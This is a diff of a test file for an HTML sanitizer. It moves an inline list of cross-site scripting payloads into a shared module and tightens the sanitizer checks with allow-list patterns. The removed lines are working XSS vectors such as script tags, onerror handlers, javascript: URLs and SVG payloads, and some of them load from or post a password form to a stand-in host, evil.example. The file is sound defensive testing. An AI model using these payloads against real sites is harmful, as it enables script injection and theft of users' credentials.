@@ -1,50 +1,23 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
+import { HOSTILE_HTML } from '../../test/hostile-html.ts'
 import { operatorHtml } from './operator-html.ts'
 
-// From the public collections of ways around filters.
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<img src=`javascript:alert(1)`>',
-  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<svg onload=alert(1)><circle/></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<iframe src="//evil.example"></iframe>',
-  '<object data="evil.swf"></object><embed src="evil.swf">',
-  '<form action="//evil.example"><input name=password></form>',
-  '<style>@import "//evil.example/x.css"</style>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<base href="//evil.example/">',
-  '<body onload=alert(1)>x</body>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<<SCRIPT>alert(1);//<</SCRIPT>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<p id="root">x</p><p name="boot">y</p>',
-]
-
 test('nothing of a hostile text that could run, load, frame or send is left', () => {
-  for (const html of HOSTILE) {
+  for (const html of HOSTILE_HTML) {
     const clean = operatorHtml(html)
     assert.doesNotMatch(
       clean,
-      /<\/?(script|svg|math|iframe|object|embed|form|input|style|link|meta|base|body|template|noscript|details)/i,
+      /<\/?(?!(?:p|br|b|strong|i|em|u|s|ul|ol|li|h3|h4|blockquote|a|img|table|thead|tbody|tr|th|td)[\s/>])[a-z!?]/i,
       html,
     )
-    assert.doesNotMatch(clean, /<[^>]*\s(on\w+|style|id|name)\s*=/i, html)
-    assert.doesNotMatch(clean, /(href|src)="(?!https:|mailto:|tel:|\/(?!\/))/i, html)
+    assert.doesNotMatch(clean, /<[^>]*\s(on\w+|style|id|name|class|srcset|target|ping|background|cite)\s*=/i, html)
+    assert.doesNotMatch(clean, /(href|src)="(?!https:|mailto:|tel:|\/(?![/\\]))/i, html)
   }
+})
+
+test('a text cleaned once is not changed by cleaning it again', () => {
+  for (const html of HOSTILE_HTML) assert.equal(operatorHtml(operatorHtml(html)), operatorHtml(html), html)
 })
 
 test('plain formatting, links and pictures stay as they were written', () => {
